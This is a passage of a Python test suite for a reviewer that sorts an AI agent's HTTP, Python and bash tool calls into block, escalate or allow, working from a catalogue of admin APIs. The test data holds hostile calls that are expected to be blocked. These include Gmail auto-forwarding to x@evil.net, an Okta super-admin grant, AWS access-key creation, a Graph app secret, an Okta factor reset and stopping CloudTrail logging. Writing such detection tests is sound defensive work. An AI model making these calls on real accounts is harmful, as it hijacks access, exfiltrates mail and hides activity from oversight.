        _http("POST", f"{JIRA_SITE}/rest/webhooks/1.0/webhook", '{"url": "https://x.example.net"}'),
        "block",
        _http("GET", f"{JIRA_SITE}/rest/webhooks/1.0/webhook"),
    ),
    (
        _http("DELETE", f"{JIRA}/project/OPS"),
        "block",
        _http("GET", f"{JIRA}/project/OPS"),
    ),
]

# entries the table does not cover on purpose: the low-graded DNS record creation (the near
# miss of its own service, allowed below)
UNCOVERED_OK = {"adds a DNS record to the zone"}


def test_every_harmful_call_is_stopped_and_every_near_miss_allowed(tmp_path: Path) -> None:
    rows = [row for harmful, _, near in CASES for row in (harmful, near)]
    out = review_json(rows, tmp_path)
    got = [(d["decision"], n["decision"]) for d, n in zip(out[::2], out[1::2], strict=True)]
    want = [(expected, "allow") for _, expected, _ in CASES]
    wrong = [
        (c[0]["args"]["method"], c[0]["args"]["url"], g, w)
        for c, g, w in zip(CASES, got, want, strict=True)
        if g != w
    ]
    assert not wrong


def _entry_of(row: dict[str, Any]) -> admin_apis.Api | None:
    from urllib.parse import urlsplit

    args = row["args"]
    parts = urlsplit(args["url"])
    lines = "\n".join(f"{k.lower()}: {v}" for k, v in args.get("headers", {}).items())
    for api in admin_apis.catalogue():
        if api.matches(
            args["method"],
            parts.hostname or "",
            parts.port,
            parts.path,
            args.get("body", ""),
            lines,
            parts.query,
        ):
            return api
    return None


def test_every_entry_of_the_domains_and_github_has_a_harmful_case() -> None:
    covered = {id(_entry_of(harmful)) for harmful, _, _ in CASES}
    # (the other code hosts and the infrastructure servers of admin_apis.toml are covered by
    # test_admin_and_startup_effects.py)
    missing = [
        f"{api.file}: {api.service}: {api.what}"
        for api in admin_apis.catalogue()
        if (api.file != admin_apis.CATALOGUE_FILE or api.service == "GitHub")
        and id(api) not in covered
        and api.what not in UNCOVERED_OK
    ]
    assert not missing


def test_the_explanation_names_the_service_and_the_effect(tmp_path: Path) -> None:
    [okta, graph] = review_json(
        [
            _http("POST", f"{OKTA}/users/00u1abc/roles", '{"type": "SUPER_ADMIN"}'),
            _http("POST", f"{GRAPH}/applications/8f2c/addPassword", "{}"),
        ],
        tmp_path,
    )
    assert "administrator role" in okta["explanation"] and "Okta" in okta["explanation"]
    assert "secret" in graph["explanation"] and "Microsoft Graph" in graph["explanation"]


# --- the same calls from Python ---------------------------------------------------------------


def _python(code: str, task: str = TASK) -> dict[str, Any]:
    return {"tool": "python", "args": {"code": code}, "task": task}


def test_requests_made_in_python_are_the_same_effects(tmp_path: Path) -> None:
    harmful = [
        _python(
            "import os, requests\n"
            "requests.post('https://acme.okta.com/api/v1/users/00u1abc/roles',\n"
            "    headers={'Authorization': 'SSWS ' + os.environ['OKTA_TOKEN']},\n"
            "    json={'type': 'SUPER_ADMIN'})\n"
        ),
        _python(
            "import requests\n"
            "requests.put('https://gmail.googleapis.com/gmail/v1/users/me/settings/"
            "autoForwarding',\n    json={'enabled': True, 'emailAddress': 'x@evil.net'})\n"
        ),
        _python(
            "import requests\n"
            "requests.post('https://iam.amazonaws.com/',\n"
            "    data='Action=CreateAccessKey&UserName=ci&Version=2010-05-08')\n"
        ),
    ]
    allowed = [
        _python(
            "import requests\n"
            "print(requests.get('https://acme.okta.com/api/v1/users/me',\n"
            "    headers={'Accept': 'application/json'}).json())\n",
            "Show my Okta profile",
        ),
        _python(
            "import requests\n"
            "rules = requests.get('https://graph.microsoft.com/v1.0/me/mailFolders/inbox/"
            "messageRules').json()\nprint(len(rules['value']))\n",
            "How many inbox rules do I have in Outlook?",
        ),
    ]
    out = review_json(harmful + allowed, tmp_path)
    assert [d["decision"] for d in out] == ["block"] * 3 + ["allow"] * 2


# --- the task asks for the change -------------------------------------------------------------


def test_a_task_that_asks_for_the_change_and_names_the_service_escalates(tmp_path: Path) -> None:
    group = f"{OKTA}/groups/00g1admins/users/00u9alice"
    make_admin = f"{DIRECTORY}/users/bob@acme.com/makeAdmin"
    secret = "https://acme-kv.vault.azure.net/secrets/db-password?api-version=7.4"
    rows = [
        _http("PUT", group, task="Add Alice to the admins group in Okta"),
        _http("PUT", group, task="Add Alice to the admins group"),  # which service? not said
        _http("PUT", group, task="Fix the README typo in Okta's docs folder"),
        _http("POST", make_admin, '{"status": true}', "Make bob a super admin in Google Workspace"),
        _http(
            "POST",
            f"{GRAPH}/groups/9a1/members/$ref",
            '{"@odata.id": "users/a1"}',
            "Add bob to the Finance group in Entra",
        ),
        _http("GET", secret, task="Read the db-password secret from Azure Key Vault into .env"),
        _http("POST", f"{SLACK}/chat.postMessage", '{"text": "hi"}', "Notify #ops on Slack"),
        _http(
            "POST",
            f"{CF}/zones/z1/dns_records",
            '{"type": "A", "name": "blog.example.com", "content": "203.0.113.5"}',
            "Add an A record for blog.example.com pointing to 203.0.113.5 in Cloudflare",
        ),
    ]
    got = [d["decision"] for d in review_json(rows, tmp_path)]
    assert got == [
        "escalate",
        "block",
        "block",
        "escalate",
        "escalate",
        "escalate",
        "allow",
        "allow",
    ]


def test_the_shell_client_reads_the_same_catalogue(tmp_path: Path) -> None:
    rows = [
        {
            "tool": "bash",
            "args": {
                "command": 'curl -s -X POST -H "Authorization: SSWS $OKTA_TOKEN" '
                "https://acme.okta.com/api/v1/users/00u1abc/lifecycle/reset_factors"
            },
            "task": TASK,
        },
        {
            "tool": "bash",
            "args": {
                "command": 'curl -s -H "Authorization: SSWS $OKTA_TOKEN" '
                "https://acme.okta.com/api/v1/users/me"
            },
            "task": "Show my Okta profile",
        },
    ]
    signed = (
        "curl -s --aws-sigv4 aws:amz:us-east-1:cloudtrail "
        '--user "$AWS_ACCESS_KEY_ID:$AWS_SECRET_ACCESS_KEY" '
        '-H "X-Amz-Target: com.amazonaws.cloudtrail.v20131101.CloudTrail_20131101.{}" '
        '-d \'{{"Name": "org-trail"}}\' https://cloudtrail.us-east-1.amazonaws.com/'
    )
    rows += [
        {"tool": "bash", "args": {"command": signed.format(action)}, "task": "Check the trail"}
        for action in ("StopLogging", "GetTrailStatus")
    ]
    got = [d["decision"] for d in review_json(rows, tmp_path)]
    assert got == ["block", "allow", "block", "allow"]


# --- the catalogue as data --------------------------------------------------------------------


def test_the_catalogue_is_well_formed() -> None:
    apis = admin_apis.catalogue()
    assert len(apis) >= 120
    files = {name for name, _ in admin_apis.catalogue_files()}
    assert {"admin_apis.toml", "admin_apis.d/identity.toml", "admin_apis.d/cloud.toml"} <= files
    homes: dict[str, set[str]] = {}
    for api in apis:
        assert api.op in OPERATIONS and api.on in RESOURCES
        assert api.docs.startswith("https://")
        assert api.reads_secret or not api.methods & {"GET", "HEAD", "OPTIONS"}
        homes.setdefault(api.service, set()).add(api.file)
    assert all(len(f) == 1 for f in homes.values())


BASE = """
[[api]]
service = "Acme"
path = '^/x$'
methods = ["POST"]
op = "account"
on = "account"
what = "w"
docs = "https://example.com/docs"
"""


@pytest.mark.parametrize(
    ("text", "message"),
    [
        (BASE.replace('"POST"', '"GET"'), "reads_secret = true"),
        (BASE + "reads_secret = true\n", "op read on credential"),
        (BASE.replace('op = "account"', 'op = "steal"'), "not an operation"),
        (BASE.replace("https://example.com", "http://example.com"), "https://"),
        (BASE + "asks = '('\n", "not a regular expression"),
        (BASE + "colour = 'red'\n", "unknown key 'colour'"),
        ("[[api]\n", "admin_apis.d/bad.toml"),
    ],
)
def test_a_bad_entry_is_refused_naming_its_file(text: str, message: str) -> None:
    with pytest.raises(admin_apis.CatalogueError, match=r"admin_apis\.d/bad\.toml") as info:
        admin_apis.parse_catalogue(text, "admin_apis.d/bad.toml")
    assert message in str(info.value)


def test_a_secret_read_may_list_get() -> None:
    text = BASE.replace('"POST"', '"GET"').replace('"account"', '"read"', 1)
    text = text.replace('on = "account"', 'on = "credential"') + "reads_secret = true\n"
    [api] = admin_apis.parse_catalogue(text, "x.toml")
    assert api.matches("GET", "h", None, "/x", "")
    assert not api.matches("GET", "h", None, "/y", "")


def test_a_service_in_two_files_is_refused() -> None:
    with pytest.raises(admin_apis.CatalogueError, match=r"b\.toml: service Acme is already in a"):
        admin_apis.combine([("a.toml", BASE), ("b.toml", BASE)])
